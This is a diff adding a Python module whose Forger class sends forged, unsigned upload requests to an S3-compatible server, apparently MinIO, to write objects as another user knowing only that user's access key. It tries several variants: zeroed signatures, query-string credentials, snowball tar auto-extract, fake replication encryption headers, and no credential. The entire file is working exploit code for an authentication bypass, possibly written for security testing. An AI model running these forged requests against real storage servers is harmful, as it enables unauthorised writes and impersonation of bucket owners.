@@ -1,0 +1,106 @@
+"""Requests that nobody with a secret has made: uploads whose signature is invented."""
+
+import base64
+import http.client
+import io
+import struct
+import tarfile
+import zlib
+from collections.abc import Mapping
+from datetime import UTC, datetime
+from typing import NamedTuple
+from urllib.parse import quote, urlsplit
+
+UNSIGNED = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
+CSV = b"first_name,last_name,birthts\nForged,Without Secret,946674000000\n"
+
+
+class Reply(NamedTuple):
+    """What a server answers; header names in lower case."""
+
+    status: int
+    headers: Mapping[str, str]
+    body: bytes
+
+
+def send(endpoint: str, method: str, target: str, body: bytes = b"", headers: Mapping[str, str] | None = None) -> Reply:
+    """Send one request as it is given, without signing it."""
+    connection = http.client.HTTPConnection(urlsplit(endpoint).netloc, timeout=10)
+    try:
+        connection.request(method, target, body, dict(headers or {}))
+        response = connection.getresponse()
+        content = response.read()
+        return Reply(response.status, {name.lower(): value for name, value in response.getheaders()}, content)
+    finally:
+        connection.close()
+
+
+class Forger:
+    """Forges uploads as the user with this access key; the secret key is not needed."""
+
+    def __init__(self, endpoint: str, access_key: str) -> None:
+        self._endpoint = endpoint
+        self._when = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
+        self._credential = f"{access_key}/{self._when[:8]}/us-east-1/s3/aws4_request"
+
+    def all(self, bucket: str, key: str, body: bytes = CSV) -> dict[str, Reply]:
+        """Send every kind of forged upload; the reply by the kind."""
+        target = f"/{bucket}/{key}"
+        snowball = {"Authorization": self._authorization, "X-Amz-Meta-Snowball-Auto-Extract": "true"}
+        encrypted = {
+            "X-Minio-Replication-Server-Side-Encryption-Sealed-Key": base64.b64encode(bytes(64)).decode(),
+            "X-Minio-Replication-Server-Side-Encryption-Seal-Algorithm": "DAREv2-HMAC-SHA256",
+            "X-Minio-Replication-Server-Side-Encryption-Iv": base64.b64encode(bytes(32)).decode(),
+        }
+        tar = _tar(key, body)
+        return {
+            "credential in the query": self._upload(target + self._query, body),
+            "credential in the query, snowball": self._upload(
+                target + self._query, tar, {"X-Amz-Meta-Snowball-Auto-Extract": "true"}
+            ),
+            "credential in the query, replication headers": self._upload(target + self._query, body, encrypted),
+            "invented Authorization": self._upload(target, body, {"Authorization": self._authorization}),
+            "invented Authorization, snowball": self._upload(target, tar, snowball),
+            "invented Authorization, snowball as it is": self._upload(target, tar, snowball, chunked=False),
+            "no credential": self._upload(target, body),
+            "part of a multipart upload": self._upload(f"{target}{self._query}&partNumber=1&uploadId=x", body),
+        }
+
+    @property
+    def _query(self) -> str:
+        return (
+            f"?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={quote(self._credential, safe='')}"
+            f"&X-Amz-Date={self._when}&X-Amz-Expires=600&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
+        )
+
+    @property
+    def _authorization(self) -> str:
+        signed = "host;x-amz-content-sha256;x-amz-date"
+        return f"AWS4-HMAC-SHA256 Credential={self._credential}, SignedHeaders={signed}, Signature={'0' * 64}"
+
+    def _upload(
+        self, target: str, body: bytes, headers: Mapping[str, str] | None = None, *, chunked: bool = True
+    ) -> Reply:
+        sent = _chunk(body) if chunked else body
+        own = {
+            "x-amz-content-sha256": UNSIGNED,
+            "x-amz-decoded-content-length": str(len(body)),
+            "x-amz-trailer": "x-amz-checksum-crc32",
+            "x-amz-date": self._when,
+        }
+        return send(self._endpoint, "PUT", target, sent, {**own, **(headers or {})})
+
+
+def _chunk(body: bytes) -> bytes:
+    """Return the body in one chunk, with the checksum after it (aws-chunked)."""
+    checksum = base64.b64encode(struct.pack(">I", zlib.crc32(body))).decode()
+    return b"%x\r\n%s\r\n0\r\nx-amz-checksum-crc32:%s\r\n\r\n" % (len(body), body, checksum.encode())
+
+
+def _tar(name: str, body: bytes) -> bytes:
+    with io.BytesIO() as file:
+        with tarfile.open(fileobj=file, mode="w") as tar:
+            member = tarfile.TarInfo(name)
+            member.size = len(body)
+            tar.addfile(member, io.BytesIO(body))
+        return file.getvalue()
